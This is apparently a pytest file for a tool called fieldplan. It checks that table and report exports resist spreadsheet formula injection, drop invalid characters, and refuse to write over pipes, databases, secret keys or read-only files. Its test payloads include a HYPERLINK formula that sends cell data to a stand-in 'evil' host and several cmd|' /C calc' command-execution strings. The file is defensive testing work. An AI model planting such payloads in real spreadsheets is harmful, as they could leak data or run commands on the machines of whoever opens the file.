"""Exports that cannot hurt: no spreadsheet cell starts a formula, whatever the text;
no character makes a workbook unreadable; an output name that is a link, a pipe, the
open database or its key, or names another format, is handled or refused; a full disk
gives one line and nothing else."""

from __future__ import annotations

import csv
import errno
import gc
import os
import stat
import sys
from collections import Counter
from pathlib import Path

import pytest

from fieldplan import files, progress, tabular
from fieldplan.errors import FileError, ValidationError
from fieldplan.text import clean_text, for_spreadsheet
from tests import reasons
from tests.cli.test_cli_messages import run

HYPERLINK = '=HYPERLINK("http://evil/?x="&A2,"Click")'
#: text that starts a formula in Excel or LibreOffice, one per text column it goes in
PAYLOADS = {
    "action": HYPERLINK,
    "status": "+cmd|' /C calc'!A0",
    "achievements": "-5 displaced",
    "challenges": "@SUM(1+1)*cmd|' /C calc'!A0",
    "next_steps": "\t=1+1",
    "updated_by": "\uff1d1+1",  # full-width equals sign
}
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


@pytest.fixture(autouse=True)
def _no_protected_files(monkeypatch) -> None:
    # each test starts with an empty registry and leaves the process's alone
    monkeypatch.setattr(files, "_protected", Counter())




def _hostile_report(rep) -> None:
    """One report whose every text field starts a formula, as a bundle from a hostile
    office (or an older version) can leave it: the import only checks the action part
    of a report id is not empty."""
    act = rep.plan().actions_of(level="global")[0].code
    progress.record_progress(rep, act, "2026-S1", status="on-track", achievements="x")
    rep.conn.execute(
        "UPDATE progress SET action = ?, status = ?, achievements = ?, challenges = ?, "
        "next_steps = ?, updated_by = ?",
        tuple(PAYLOADS[c] for c in ("action", "status", "achievements", "challenges",
                                    "next_steps", "updated_by")))
    rep.conn.commit()


# 1. formula injection --------------------------------------------------------------

@pytest.mark.parametrize("fmt", ["csv", "hxl"])
def test_no_csv_or_hxl_cell_starts_a_formula(hq, tmp_path: Path, fmt) -> None:
    _hostile_report(hq)
    out = tmp_path / f"progress.{fmt}"
    assert tabular.export_table(hq, fmt, out) == 1
    table = list(csv.reader(out.read_text(encoding="utf-8-sig").splitlines(keepends=True)))
    header, data = table[0], table[2 if fmt == "hxl" else 1:]
    assert len(data) == 1
    for column, cell in zip(header, data[0], strict=True):
        assert not cell.startswith(FORMULA_START), (column, cell)
    row = dict(zip(header, data[0], strict=True))
    # the text itself is all there, behind one '
    assert {c: row[c] for c in PAYLOADS} == {c: "'" + v for c, v in PAYLOADS.items()}


def test_no_xlsx_cell_is_a_formula_and_text_is_unchanged(hq, tmp_path: Path) -> None:
    from openpyxl import load_workbook

    _hostile_report(hq)
    out = tmp_path / "progress.xlsx"
    assert tabular.export_table(hq, "xlsx", out) == 1
    ws = load_workbook(out).active
    header = [c.value for c in ws[1]]
    cells = dict(zip(header, ws[2], strict=True))
    assert [c for c in ws.iter_rows() for c in c if c.data_type == "f"] == []
    # stored as text, exactly as written (no ' in the value), and kept text on editing
    assert {c: cells[c].value for c in PAYLOADS} == PAYLOADS
    assert all(cells[c].data_type == "s" and cells[c].quotePrefix for c in PAYLOADS)
    assert not cells["office"].quotePrefix  # ordinary text stays ordinary


@pytest.mark.parametrize("fmt", ["csv", "hxl"])
def test_a_quote_typed_before_a_formula_is_kept_apart(hq, tmp_path: Path, fmt) -> None:
    """'=A1 typed and =A1 typed came out alike ('=A1), so a reader dropping the one '
    the export adds (as the file's rule says) got =A1 from both: the typed ' gets one
    more, as the plan CSV writes it, and each reads back as typed."""
    from fieldplan.text import unguard_formula

    acts = [a.code for a in hq.plan().actions_of(level="global")[:3]]
    typed = {acts[0]: "'=A1", acts[1]: "=A1", acts[2]: "''-5"}
    for act, text in typed.items():
        progress.record_progress(hq, act, "2026-S1", status="on-track", achievements=text)
    out = tmp_path / f"progress.{fmt}"
    tabular.export_table(hq, fmt, out)
    lines = out.read_text(encoding="utf-8-sig").splitlines(keepends=True)
    rows = list(csv.DictReader([lines[0], *lines[2 if fmt == "hxl" else 1:]]))
    written = {r["action"]: r["achievements"] for r in rows if r["action"] in typed}
    assert written == {acts[0]: "''=A1", acts[1]: "'=A1", acts[2]: "'''-5"}
    assert {a: unguard_formula(w) for a, w in written.items()} == typed


def test_harmless_text_is_not_changed(hq, tmp_path: Path) -> None:
    act = hq.plan().actions_of(level="global")[0].code
    progress.record_progress(hq, act, "2026-S1", status="on-track",
                             achievements="5 - 3 = 2, +1 @ HQ", challenges="'quoted'")
    out = tmp_path / "progress.csv"
    tabular.export_table(hq, "csv", out)
    row = next(csv.DictReader(out.read_text(encoding="utf-8-sig").splitlines()))
    assert (row["achievements"], row["challenges"], row["action"]) == (
        "5 - 3 = 2, +1 @ HQ", "'quoted'", act)


# 2. characters XML cannot hold -----------------------------------------------------

def test_clean_text_and_spreadsheets_drop_xml_invalid_characters() -> None:
    assert clean_text("a\ufffeb\uffffc\ufffdd") == "abc\ufffdd"
    assert clean_text("\U0010fffe kept") == "\U0010fffe kept"  # valid XML
    # the client's text box reads these as newlines: no text holds them
    assert clean_text("a\ufdd0b\ufdd1c\ufdefd\ufdcf\ufdf0") == "abcd\ufdcf\ufdf0"
    assert for_spreadsheet("a\ufffe\uffffb\x0b\x00c\ud800d\te\nf\rg") == (
        "abc\ufffdd\te\nf\rg")


def test_record_progress_never_stores_ufffe_or_uffff(hq) -> None:
    act = hq.plan().actions_of(level="global")[0].code
    progress.record_progress(hq, act, "2026-S1", status="on-track",
                             achievements="bom\ufffe and \uffff gone")
    assert progress.get_report(hq, act, "2026-S1").achievements == "bom and  gone"


@pytest.mark.parametrize("fmt", ["xlsx", "csv", "hxl"])
def test_exports_survive_xml_invalid_characters_from_older_data(hq, tmp_path: Path,
                                                                 monkeypatch, fmt) -> None:
    act = hq.plan().actions_of(level="global")[0].code
    progress.record_progress(hq, act, "2026-S1", status="on-track", achievements="x")
    hq.conn.execute("UPDATE progress SET achievements = ?, challenges = ?",
                    ("a\ufffeb\uffffc", "ok\x0bbell\x07"))
    hq.conn.commit()
    real_rows = tabular.rows

    def with_a_lone_surrogate(*args, **kwargs):
        data = real_rows(*args, **kwargs)
        data[0]["next_steps"] = "bad \udcff byte"  # SQLite cannot even store it
        return data

    monkeypatch.setattr(tabular, "rows", with_a_lone_surrogate)
    out = tmp_path / f"progress.{fmt}"
    assert tabular.export_table(hq, fmt, out) == 1
    if fmt == "xlsx":
        from openpyxl import load_workbook

        values = [c.value for c in load_workbook(out).active[2]]
    else:
        values = next(csv.reader(out.read_text(encoding="utf-8-sig").splitlines()[-1:]))
    assert {"abc", "okbell", "bad \ufffd byte"} <= set(values)


# 3. links, pipes, devices ----------------------------------------------------------

def test_a_symlink_to_a_file_writes_its_target_and_stays(tmp_path: Path) -> None:
    (tmp_path / "real.csv").write_bytes(b"old")
    link = tmp_path / "link.csv"
    link.symlink_to("real.csv")
    files.write_atomic(link, b"new")
    assert link.is_symlink() and os.readlink(link) == "real.csv"
    assert (tmp_path / "real.csv").read_bytes() == b"new"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["link.csv", "real.csv"]


def test_a_dangling_symlink_creates_its_target(tmp_path: Path) -> None:
    (tmp_path / "sub").mkdir()
    link = tmp_path / "link.csv"
    link.symlink_to(tmp_path / "sub" / "made.csv")
    files.write_atomic(link, b"data")
    assert link.is_symlink() and (tmp_path / "sub" / "made.csv").read_bytes() == b"data"


@pytest.mark.parametrize("through_link", [False, True])
def test_a_pipe_is_refused_and_stays_a_pipe(tmp_path: Path, through_link) -> None:
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    target = fifo
    if through_link:
        target = tmp_path / "link.csv"
        target.symlink_to(fifo)
    with pytest.raises(FileError) as info:
        files.write_atomic(target, b"data")
    assert str(info.value) == (f"cannot write {target}: it is a device, a pipe or a socket, "
                               "not a file; choose another file")
    assert stat.S_ISFIFO(os.stat(fifo).st_mode)
    assert not [p for p in tmp_path.iterdir() if p.name.endswith(".part")]


def test_data_export_through_a_link_keeps_the_link(hq, tmp_path: Path, capsys) -> None:
    hq.close()
    link = tmp_path / "latest.csv"
    link.symlink_to("progress-2026.csv")
    code, _, err = run("--db", str(tmp_path / "hq.sqlite3"), "data", "export", "--format",
                       "csv", "-o", str(link), capsys=capsys)
    assert (code, err) == (0, "")
    assert link.is_symlink()
    assert (tmp_path / "progress-2026.csv").read_text(encoding="utf-8-sig").startswith(
        "office,")


# 4. the open database and its keys -------------------------------------------------

def test_protected_files_and_a_databases_sqlite_files_are_refused(tmp_path: Path) -> None:
    db = tmp_path / "hq.sqlite3"
    db.write_bytes(b"SQLite format 3\x00")
    key = tmp_path / "hq.sqlite3.key"
    key.write_bytes(b"secret")
    link = tmp_path / "innocent.csv"
    link.symlink_to(db)
    files.protect(db, key)
    for target in (db, key, link, tmp_path / "hq.sqlite3-wal", tmp_path / "hq.sqlite3-shm",
                   tmp_path / "hq.sqlite3-journal", tmp_path / "." / "hq.sqlite3"):
        with pytest.raises(FileError) as info:
            files.write_atomic(target, b"office,action\n")
        assert str(info.value) == (f"cannot write {target}: it is fieldplan's own database "
                                   "or key file; choose another file")
    assert db.read_bytes() == b"SQLite format 3\x00" and key.read_bytes() == b"secret"
    assert sorted(p.name for p in tmp_path.iterdir()) == [
        "hq.sqlite3", "hq.sqlite3.key", "innocent.csv"]
    # other files beside them are not
    files.write_atomic(tmp_path / "hq.sqlite3.csv", b"ok")
    files.write_atomic(tmp_path / "hq.sqlite3-wal.csv", b"ok")


def test_protection_is_counted_and_can_be_lifted(tmp_path: Path) -> None:
    db = tmp_path / "hq.sqlite3"
    files.protect(db)
    files.protect(db)  # a second replica open on the same file
    files.unprotect(db)
    assert files.is_protected(db) and files.is_protected(str(db) + "-wal")
    files.unprotect(db)
    assert not files.is_protected(db)
    files.write_atomic(db, b"ok")
    files.unprotect(tmp_path / "never-protected")  # ignored


def test_the_key_writer_may_write_protected_key_files(hq) -> None:
    from fieldplan import minisign
    from fieldplan.replica import key_path, pending_key_path
    from fieldplan.sync.keys import rotate_key

    files.protect(hq.path, key_path(hq.path), pending_key_path(hq.path))
    with pytest.raises(FileError):
        files.write_atomic(key_path(hq.path), b"")
    new = rotate_key(hq)  # writes hq.sqlite3.key.new, then moves it in place
    assert minisign.load_secret_key(key_path(hq.path)).key_id_hex == new.key_id_hex


def test_data_export_over_the_database_or_its_key_is_refused(hq, tmp_path: Path,
                                                             capsys) -> None:
    from fieldplan.replica import key_path

    hq.close()
    db = tmp_path / "hq.sqlite3"
    kpath = key_path(db)
    key_before, db_before = kpath.read_bytes(), db.read_bytes()
    files.protect(db, kpath)  # what opening the database registers
    for target in (kpath, Path(str(db) + "-wal")):
        code, out, err = run("--db", str(db), "data", "export", "--format", "csv",
                             "-o", str(target), capsys=capsys)
        assert (code, out) == (1, "")
        assert err == (f"fieldplan: error: cannot write {target}: it is fieldplan's own "
                       "database or key file; choose another file\n")
    assert kpath.read_bytes() == key_before and db.read_bytes() == db_before


# 5. a file name for another format; a full disk ------------------------------------

@pytest.mark.parametrize(("fmt", "name"), [("csv", "x.xlsx"), ("xlsx", "x.CSV"),
                                           ("csv", "x.hxl"), ("hxl", "x.ods"),
                                           ("xlsx", "t.docx"), ("csv", "t.html"),
                                           ("xlsx", "t.txt")])
def test_a_file_name_for_another_format_is_a_usage_error(hq, tmp_path: Path, capsys,
                                                         fmt, name) -> None:
    hq.close()
    out = tmp_path / name
    code, _, err = run("--db", str(tmp_path / "hq.sqlite3"), "data", "export", "--format",
                       fmt, "-o", str(out), capsys=capsys)
    assert code == 2
    suffix = Path(name).suffix.lower()
    assert err.splitlines()[-1] == (
        f"fieldplan data export: usage error: {out} is named as a {suffix} file but the "
        f"format is {fmt.upper()}: give it a name ending in {files.FORMAT_SUFFIXES[fmt]}, "
        "or choose another format")
    assert not out.exists()


@pytest.mark.parametrize(("fmt", "name"), [("hxl", "x.csv"), ("csv", "x.txt"),
                                           ("xlsx", "x")])
def test_hxl_fits_a_csv_name_and_other_names_are_free(hq, tmp_path: Path, fmt,
                                                      name) -> None:
    assert tabular.export_table(hq, fmt, tmp_path / name) == 0
    with pytest.raises(ValidationError, match=r"named as a \.xlsx file"):
        tabular.export_table(hq, "csv", tmp_path / "y.xlsx")  # the core checks too


@pytest.mark.parametrize(("command", "name"), [
    (("report", "sheet", "--period", "2026-S1"), "sheet.csv"),
    (("report", "sheet", "--period", "2026-S1"), "sheet.png"),
    (("report", "review", "--period", "2026-S1"), "ML.sqlite3"),
    (("report", "review", "--period", "2026-S1"), "ML-1-5.fieldplan"),
])
def test_a_report_named_as_another_kind_of_file_is_a_usage_error(
        hq, tmp_path: Path, capsys, command, name) -> None:
    """`report ... -o offices/ML.sqlite3` wrote a PDF over another office's database."""
    hq.close()
    out = tmp_path / name
    out.write_bytes(b"kept")
    code, _, err = run("--db", str(tmp_path / "hq.sqlite3"), *command, "-o", str(out),
                       capsys=capsys)
    assert code == 2
    suffix = Path(name).suffix
    assert err.splitlines()[-1] == (
        f"fieldplan {' '.join(command[:2])}: usage error: {out} is named as a {suffix} "
        "file but a PDF is written: give it a name ending in .pdf")
    assert out.read_bytes() == b"kept"


def test_a_report_named_for_no_known_kind_of_file_is_written(hq, tmp_path: Path) -> None:
    from fieldplan.reports import build_review_pack

    for name in ("pack", "pack.PDF", "pack.2026-S1"):
        assert build_review_pack(hq, "2026-S1", tmp_path / name).read_bytes()[:5] == b"%PDF-"
    with pytest.raises(ValidationError, match=r"named as a \.csv file"):
        build_review_pack(hq, "2026-S1", tmp_path / "pack.csv")  # the core checks too


@pytest.mark.parametrize(("command", "name"), [
    (("export",), "progress.csv"),
    (("export",), "notes.txt"),
    (("export",), "ML.docx"),
    (("export", "--for", "ML"), "ML.toml"),
    (("office", "enroll", "ML"), "sheet.pdf"),
    (("office", "enroll", "SN"), "SN.SQLITE"),
])
def test_a_bundle_named_as_another_kind_of_file_is_a_usage_error(
        hq, make_office, tmp_path: Path, capsys, command, name) -> None:
    """`export -o progress.csv` and `office enroll ML -o sheet.pdf` wrote a ZIP bundle
    over the person's table and report, and said nothing."""
    db = hq.path
    if command == ("export",):
        office = make_office("ML")
        db = office.path
        office.close()
    else:
        make_office("ML").close()  # ML enrolled: HQ may export for it
    hq.close()
    out = tmp_path / name
    out.write_bytes(b"kept")
    code, _, err = run("--db", str(db), *command, "-o", str(out), capsys=capsys)
    assert code == 2
    prog = " ".join(c for c in command if c.islower() and c != "--for")
    assert err.splitlines()[-1] == (
        f"fieldplan {prog}: usage error: {out} is named as a {Path(name).suffix.lower()} "
        "file but a bundle is written: give it a name ending in .fieldplan")
    assert out.read_bytes() == b"kept"


def test_a_bundle_named_for_no_known_kind_of_file_is_written(hq, make_office,
                                                             tmp_path: Path) -> None:
    from fieldplan.sync import enroll_office, export_bundle

    ml = make_office("ML")
    for name in ("ml-bundle", "ml.FIELDPLAN", "ml.zip"):
        assert export_bundle(ml, out_file=tmp_path / name).path == tmp_path / name
    assert enroll_office(hq, "SN", tmp_path / "sn.setup").path == tmp_path / "sn.setup"
    # the core checks too, before any work: no enrolment is left behind
    with pytest.raises(ValidationError, match=r"named as a \.csv file but a bundle"):
        export_bundle(ml, out_file=tmp_path / "progress.csv")
    with pytest.raises(ValidationError, match=r"named as a \.pdf file but a bundle"):
        enroll_office(hq, "SN", tmp_path / "SN.pdf")
    assert hq.conn.execute("SELECT count(*) FROM enrolments").fetchone()[0] == 2
    assert not (tmp_path / "progress.csv").exists() and not (tmp_path / "SN.pdf").exists()


def test_a_bundle_never_replaces_another_computers_bundle(hq, make_office, tmp_path: Path,
                                                          capsys) -> None:
    """Two laptops of one office exporting to one name on a shared USB stick: the
    second replaced the first's bundle before it reached HQ. A computer's own earlier
    bundle of that name is still replaced."""
    from fieldplan.sync import enroll_office, export_bundle

    first, second = make_office("ML"), make_office("ML")
    usb = tmp_path / "usb"
    usb.mkdir()
    name = usb / "ML.fieldplan"
    written = export_bundle(first, out_file=name)
    again = export_bundle(first, out_file=name)  # its own: replaced
    assert again.path == name and again.bundle_id != written.bundle_id
    kept = name.read_bytes()
    expected = (f"cannot write {name}: it is a bundle another fieldplan database wrote (ML, "
                f"replica {first.replica_id[:8]}); choose another file")
    with pytest.raises(FileError) as taken:
        export_bundle(second, out_file=name)
    assert str(taken.value) == expected
    with pytest.raises(FileError, match="another fieldplan database wrote"):
        enroll_office(hq, "SN", name)  # HQ is another computer too
    with pytest.raises(FileError, match="another fieldplan database wrote"):
        export_bundle(hq, for_office="ML", out_file=name)
    assert name.read_bytes() == kept
    assert hq.conn.execute("SELECT count(*) FROM enrolments").fetchone()[0] == 2
    # a file of that name that is no bundle (a download cut short) is not replaced
    junk = usb / "junk.fieldplan"
    junk.write_bytes(b"PK\x03\x04 cut short")
    with pytest.raises(FileError, match="it is not a fieldplan bundle this computer can "
                                        "read; choose another file"):
        export_bundle(first, out_file=junk)
    assert junk.read_bytes() == b"PK\x03\x04 cut short"
    assert sorted(p.name for p in usb.iterdir()) == ["ML.fieldplan", "junk.fieldplan"]
    # the command line says how to have a free name chosen; --dir takes one
    db = str(second.path)
    second.close()
    code, out, err = run("--db", db, "export", "-o", str(name), capsys=capsys)
    assert (code, out) == (1, "")
    assert err == f"fieldplan: error: {expected}, or use --dir to have a name chosen that " \
                  "is not in use\n"
    code, out, err = run("--db", db, "export", "--dir", str(usb), capsys=capsys)
    assert code == 0 and Path(out.strip()).parent == usb and Path(out.strip()) != name
    assert name.read_bytes() == kept
    hq_db = str(hq.path)
    hq.close()
    code, out, err = run("--db", hq_db, "office", "enroll", "SN", "-o", str(name),
                         capsys=capsys)
    assert (code, out) == (1, "")
    assert err.endswith(", or give -o a folder to have a name chosen that is not in use\n")
    assert name.read_bytes() == kept


@pytest.mark.parametrize("name", ["old-copy", "office.csv"])
def test_no_output_replaces_a_database(hq, tmp_path: Path, name) -> None:
    """Whatever its name: a database that is not this one (another office's, a copy
    of a backup) is never written over, by any writer of files."""
    import shutil

    other = tmp_path / name
    shutil.copyfile(hq.path, other)
    before = other.read_bytes()
    for write in (lambda: files.write_atomic(other, b"%PDF-"),
                  lambda: tabular.export_table(hq, "csv", other)):
        with pytest.raises(FileError, match="it is a database; choose another file"):
            write()
    assert other.read_bytes() == before
    assert [p.name for p in tmp_path.iterdir() if p.name.endswith(".part")] == []
    other.write_bytes(b"not a database")  # any other file is replaced as before
    files.write_atomic(other, b"new")
    assert other.read_bytes() == b"new"


def test_no_output_replaces_another_databases_log_key_or_drafts(hq, make_office,
                                                                 tmp_path: Path,
                                                                 capsys) -> None:
    """At HQ, `-o offices/NG.sqlite3.key` wrote a PDF over that laptop's secret key, and
    `-o offices/NG.sqlite3-wal` over changes not yet in its database: only the files of
    the open database were kept from outputs. Now no output replaces a database's
    log, a secret key or the client's drafts, whoever's they are."""
    from fieldplan.replica import key_path

    office = make_office("ML")
    db = Path(office.path)
    office.close()
    wal = Path(f"{db}-wal")
    wal.write_bytes(b"\x37\x7f\x06\x82" + b"\0" * 28)  # a log, as a killed writer left it
    drafts = Path(f"{db}{files.DRAFTS_SUFFIX}")
    drafts.write_text('{"version": 1}')
    # the drafts a plan amendment set aside, and journals the client could not read
    aside = Path(f"{db}{files.DRAFTS_SET_ASIDE_SUFFIX}")
    unreadable = [Path(f"{f}{files.UNREADABLE_MARK}20260115T083000Z-2") for f in (drafts, aside)]
    for path in (aside, *unreadable):
        path.write_text('{"version": 1, "drafts": [{"values": {"x": "typed"}}]}')
    lone_key = tmp_path / "laptop.key"  # a key file with no database beside it
    lone_key.write_bytes(key_path(db).read_bytes())
    targets = {
        key_path(db): "it is a secret key file",
        lone_key: "it is a secret key file",
        wal: "it is a database's log of changes",
        Path(f"{db}-journal"): "it is a database's log of changes",  # none there yet
        drafts: "it holds the client's unsaved drafts of a database",
        aside: "it holds the client's unsaved drafts of a database",
        **{path: "it holds the client's unsaved drafts of a database" for path in unreadable},
    }
    before = {p: p.read_bytes() for p in targets if p.exists()}
    hq_db = str(hq.path)
    hq.close()
    for target, reason in targets.items():
        with pytest.raises(FileError, match=reason):
            files.write_atomic(target, b"%PDF-")
        for argv in (("report", "review", "--period", "2026-S1", "-o", str(target)),
                     ("export", "--for", "ML", "-o", str(target)),
                     ("plan", "export", "-o", str(target)),
                     ("office", "enroll", "SN", "-o", str(target))):
            code, _out, err = run("--db", hq_db, *argv, capsys=capsys)
            # refused, in one line (reports and plans may first refuse the name's ending)
            assert code in (1, 2) and "error" in err.splitlines()[-1], (argv, err)
            # bundle writers take any name but one of another kind of file's (.json)
            if argv[0] in ("export", "office") and target.suffix != ".json":
                assert code == 1 and reason in err, (argv, err)
    assert {p: p.read_bytes() for p in before} == before
    assert not Path(f"{db}-journal").exists()
    link = tmp_path / "innocent.pdf"  # a link to where a log would go
    link.symlink_to(Path(f"{db}-journal"))
    with pytest.raises(FileError, match="it is a database's log of changes"):
        files.write_atomic(link, b"%PDF-")
    assert not Path(f"{db}-journal").exists()
    # their own writers still write them
    files.write_atomic(drafts, b"{}", allow_protected=True)
    assert drafts.read_bytes() == b"{}"
    # with no database beside them, files of such names are anyone's
    alone = tmp_path / f"notes{files.DRAFTS_SET_ASIDE_SUFFIX}"
    alone.write_text("{}")
    files.write_atomic(alone, b"%PDF-")
    assert alone.read_bytes() == b"%PDF-"


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_a_full_disk_gives_one_line_and_nothing_else(hq, tmp_path: Path, capsys,
                                                     monkeypatch, fmt) -> None:
    act = hq.plan().actions_of(level="global")[0].code
    progress.record_progress(hq, act, "2026-S1", status="on-track", achievements="x" * 9000)
    hq.close()
    real_fdopen = os.fdopen

    class FullDisk:
        """The temporary file, on a disk with no room left."""

        def __init__(self, f) -> None:
            self._f = f

        def write(self, data) -> int:
            raise OSError(errno.ENOSPC, "No space left on device")

        def __getattr__(self, name):
            return getattr(self._f, name)

        def __enter__(self):
            return self

        def __exit__(self, *exc) -> None:
            self._f.close()

    monkeypatch.setattr(files.os, "fdopen", lambda *a, **k: FullDisk(real_fdopen(*a, **k)))
    unraisable = []
    monkeypatch.setattr(sys, "unraisablehook", unraisable.append)
    out = tmp_path / f"progress.{fmt}"
    code, stdout, err = run("--db", str(tmp_path / "hq.sqlite3"), "data", "export",
                            "--format", fmt, "-o", str(out), capsys=capsys)
    gc.collect()
    assert (code, stdout) == (1, "")
    assert err == f"fieldplan: error: cannot write {out}: {reasons.DISK_FULL}\n"
    assert [(u.exc_type, u.exc_value, u.object) for u in unraisable] == []
    assert sorted(p.name for p in tmp_path.iterdir() if "progress" in p.name) == []


def _access_by_mode_bits(monkeypatch) -> None:
    """``os.access`` answers from the permission bits, as for a user who is not the
    superuser (tests may run as root, whom os.access lets write anything)."""
    real = os.access

    def access(path, mode, **kwargs) -> bool:
        if mode == os.W_OK and os.path.exists(path):
            return bool(os.stat(path).st_mode & stat.S_IWUSR)
        return real(path, mode, **kwargs)

    monkeypatch.setattr(files.os, "access", access)


def test_data_export_over_a_read_only_file_is_refused(hq, tmp_path: Path, capsys,
                                                      monkeypatch) -> None:
    """``chmod 444 t.csv``, then an export to it: Windows refused it ("permission
    denied"), Linux and macOS replaced it with a new, writable file (the rename asks
    only the folder). Refused everywhere now, before anything is written."""
    hq.close()
    _access_by_mode_bits(monkeypatch)
    out = tmp_path / "t.csv"
    out.write_bytes(b"x\n")
    out.chmod(0o444)
    code, stdout, err = run("--db", str(tmp_path / "hq.sqlite3"), "data", "export",
                            "--format", "csv", "-o", str(out), capsys=capsys)
    assert (code, stdout) == (1, "")
    assert err == f"fieldplan: error: cannot write {out}: {reasons.READ_ONLY_FILE}\n"
    assert out.read_bytes() == b"x\n" and stat.S_IMODE(out.stat().st_mode) == 0o444
    assert not [p for p in os.listdir(tmp_path) if p.endswith(".part")]
    out.chmod(0o644)  # made writable again: written
    code, _, err = run("--db", str(tmp_path / "hq.sqlite3"), "data", "export",
                       "--format", "csv", "-o", str(out), capsys=capsys)
    assert (code, err) == (0, "")
    assert out.read_text(encoding="utf-8-sig").startswith("office,")


def test_every_writer_refuses_a_read_only_file(hq, tmp_path: Path, monkeypatch) -> None:
    """Tables, PDF reports, plans and bundles all go through atomic_output, and so
    does the check a bundle's name gets first; a link to a read-only file is refused
    too, and the link stays."""
    from fieldplan.plan import dump_plan
    from fieldplan.sync.export import check_bundle_target

    _access_by_mode_bits(monkeypatch)
    plan = hq.plan()
    tmp_path = tmp_path / "out"
    tmp_path.mkdir()
    kept = tmp_path / "kept.pdf"
    kept.write_bytes(b"old")
    kept.chmod(0o444)
    link = tmp_path / "link.csv"
    link.symlink_to(kept)
    writers = [
        (kept, lambda: files.write_atomic(kept, b"%PDF-")),
        (link, lambda: tabular.write_table(hq, "csv", link)),
        (kept, lambda: files.check_writable(kept)),
        (kept, lambda: check_bundle_target(hq, kept)),
        (tmp_path / "plan.json", lambda: dump_plan(plan, tmp_path / "plan.json")),
    ]
    (tmp_path / "plan.json").write_bytes(b"{}")
    (tmp_path / "plan.json").chmod(0o400)
    for named, write in writers:
        with pytest.raises(FileError) as info:
            write()
        # (the file, not its folder, refuses: another name there is written)
        assert str(info.value) == f"cannot write {named}: {reasons.READ_ONLY_FILE}"
    assert kept.read_bytes() == b"old" and link.is_symlink()
    assert (tmp_path / "plan.json").read_bytes() == b"{}"
    assert sorted(os.listdir(tmp_path)) == ["kept.pdf", "link.csv", "plan.json"]


def test_a_name_as_long_as_allowed_is_written(hq, make_office, tmp_path: Path) -> None:
    """``export -o`` with a long name (up to the file system's 255 bytes) failed "the
    name is too long": the temporary file beside it added ".{name}.{8 hex}.part". Its
    temporary name now cuts the name, between characters, to fit; what a killed write
    of it left is still swept."""
    import time

    from fieldplan.files import STALE_TEMPORARY_S, temporary_name, write_atomic
    from fieldplan.sync import export_bundle

    # 2-byte letters, and a 3-byte one where a cut by bytes would split it
    name = "تقرير" * 24 + "€" + ".fieldplan"  # 240 + 3 + 10 bytes
    assert len(os.fsencode(name)) == 253
    temporary = temporary_name(tmp_path / name).name
    assert len(os.fsencode(temporary)) <= 255
    assert temporary.startswith(".تقرير") and temporary.endswith(".part")
    make_office("ML")
    result = export_bundle(hq, for_office="ML", out_file=tmp_path / name)
    assert Path(result.path) == tmp_path / name and (tmp_path / name).stat().st_size > 0
    stale = tmp_path / temporary_name(tmp_path / name).name
    stale.write_bytes(b"half a file")
    long_ago = time.time() - STALE_TEMPORARY_S - 60
    os.utime(stale, (long_ago, long_ago))
    write_atomic(tmp_path / name, b"again")
    assert not stale.exists()
    assert not [p for p in os.listdir(tmp_path) if p.endswith(".part")]


def test_a_name_too_long_is_said_in_words_by_every_writer(hq, make_office,
                                                          tmp_path: Path) -> None:
    """A name past the file system's 255 bytes (typed in a save dialog) gave Python's
    "[Errno 36] File name too long: '…'": the look at whether it was a folder raised
    before any writer could say it, and the client called it an unexpected error.
    Every writer now says "cannot write …: the name is too long", leaves nothing
    behind and changes nothing; the same writers take a shorter name."""
    from fieldplan import reports
    from fieldplan.plan import dump_plan
    from fieldplan.sync import export_bundle

    make_office("ML")
    out = tmp_path / "out"
    out.mkdir()
    stem = "تقرير" * 26  # 260 bytes
    writers = {
        ".csv": lambda path: tabular.write_table(hq, "csv", path),
        ".pdf": lambda path: reports.build_status_sheet(hq, "2026-S1", "ML", out=path),
        ".json": lambda path: dump_plan(hq.plan(), path),
        ".fieldplan": lambda path: export_bundle(hq, for_office="ML", out_file=path),
        "": lambda path: export_bundle(hq, for_office="ML", out_dir=path),
    }
    last_export = hq.conn.execute("SELECT value FROM meta WHERE key = 'last_export'"
                                  ).fetchone()
    for suffix, write in writers.items():
        named = out / f"{stem}{suffix}"
        with pytest.raises(FileError) as info:
            write(named)
        assert str(info.value) == f"cannot write {named}: {reasons.TOO_LONG}"
    assert os.listdir(out) == []
    assert hq.conn.execute("SELECT value FROM meta WHERE key = 'last_export'"
                           ).fetchone() == last_export
    for suffix, write in writers.items():
        named = out / f"{stem[:40]}{suffix}"
        if not suffix:
            named.mkdir()
        write(named)
    assert len(os.listdir(out)) == len(writers)


def test_what_killed_writes_left_beside_a_file_is_swept(tmp_path: Path) -> None:
    """A program killed while writing (a report on a USB stick) leaves a hidden .part
    file; the next write of that file removes it once it is clearly abandoned."""
    import time

    from fieldplan.files import STALE_TEMPORARY_S, write_atomic

    target = tmp_path / "sheet.pdf"
    old = tmp_path / ".sheet.pdf.0123abcd.part"
    fresh = tmp_path / ".sheet.pdf.89abcdef.part"  # maybe another write under way
    other = tmp_path / ".review.pdf.0123abcd.part"  # another file's
    for path in (old, fresh, other):
        path.write_bytes(b"half a file")
    long_ago = time.time() - STALE_TEMPORARY_S - 60
    for path in (old, other):
        os.utime(path, (long_ago, long_ago))
    write_atomic(target, b"%PDF-1.4")
    assert not old.exists() and fresh.exists() and other.exists()
    assert target.read_bytes() == b"%PDF-1.4"
